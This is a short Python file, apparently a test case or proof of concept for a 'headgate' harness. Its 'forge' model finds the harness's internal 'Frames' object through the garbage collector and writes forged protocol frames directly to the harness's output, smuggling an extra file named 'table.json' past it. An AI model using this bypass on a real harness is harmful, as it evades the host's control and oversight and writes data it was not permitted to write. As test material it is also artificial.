"""Write to the server past the harness: one more file, under a name of one's choice."""

import gc
import os
import struct

import headgate


@headgate.model(name="forge")
def forge(readings=headgate.Model("readings")):
    harness = next(o for o in gc.get_objects() if type(o).__name__ == "Frames")
    name, body = b"table.json", b"{}"
    frame = b"F" + struct.pack(">H", len(name)) + name + struct.pack(">Q", len(body)) + body
    os.write(harness._out.fileno(), frame * 2)
    return readings
